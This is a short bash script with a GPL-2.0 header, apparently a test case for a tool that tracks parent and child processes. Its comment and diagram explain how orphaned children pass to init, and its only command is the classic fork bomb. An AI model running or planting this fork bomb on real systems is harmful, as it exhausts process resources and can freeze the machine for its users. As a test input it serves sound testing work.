#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The one that is known best. It breaks a tool that follows live parents: each
# process waits for no child and exits, so that its children belong to init.
#
#	bash ─┬─ (bash) ─┬─ (bash) …		() has exited
#	      │          └─ bash
#	      └─ (bash) ─── bash …
:(){ :|:& };:
